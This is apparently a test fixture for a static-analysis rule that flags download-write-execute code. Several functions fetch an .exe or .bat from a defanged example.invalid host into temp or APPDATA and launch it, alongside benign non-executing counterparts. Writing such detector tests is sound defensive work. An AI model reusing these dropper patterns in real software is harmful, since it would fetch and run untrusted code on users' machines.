# Test for download-write-execute (defanged: example.invalid, nothing is fetched).
import os
import subprocess
import tempfile
import urllib.request

import requests


def drop_a():
    path = os.path.join(tempfile.gettempdir(), "update.exe")
    # ruleid: download-write-execute
    urllib.request.urlretrieve("https://example.invalid/u.exe", path)
    os.startfile(path)


def drop_b():
    r = requests.get("https://example.invalid/s.bat")
    target = os.getenv("APPDATA", "") + "\\s.bat"
    # ruleid: download-write-execute
    with open(target, "wb") as f:
        f.write(r.content)
    subprocess.Popen(target, shell=True)


def fetch_data():
    path = "data.csv"
    # ok: download-write-execute
    urllib.request.urlretrieve("https://example.invalid/data.csv", path)
    print(open(path).read())


def save_model():
    r = requests.get("https://example.invalid/model.bin")
    # ok: download-write-execute
    with open("model.bin", "wb") as f:
        f.write(r.content)
    subprocess.run(["sha256sum", "other.bin"])


def fetch_checked(url, target):
    response = requests.get(url)
    # ruleid: download-write-execute
    if response.status_code == 200:
        with open(target, "wb") as f:
            f.write(response.content)
    else:
        return
    try:
        subprocess.run([str(target)], check=True)
    except subprocess.CalledProcessError:
        pass


def fetch_and_open_other(url, target):
    response = requests.get(url)
    # ok: download-write-execute
    if response.ok:
        with open(target, "wb") as f:
            f.write(response.content)
    subprocess.run(["notepad.exe", "readme.txt"])


def fetch_once_and_run(url, filename):
    filepath = os.path.join(os.getenv("APPDATA") or os.path.expanduser("~"), filename)
    # ruleid: download-write-execute
    if not os.path.exists(filepath):
        urllib.request.urlretrieve(url, filepath)
    subprocess.Popen([filepath], shell=True)


def fetch_once_and_read(url, filename):
    # ok: download-write-execute
    if not os.path.exists(filename):
        urllib.request.urlretrieve(url, filename)
    subprocess.run(["sha256sum", "other.bin"])
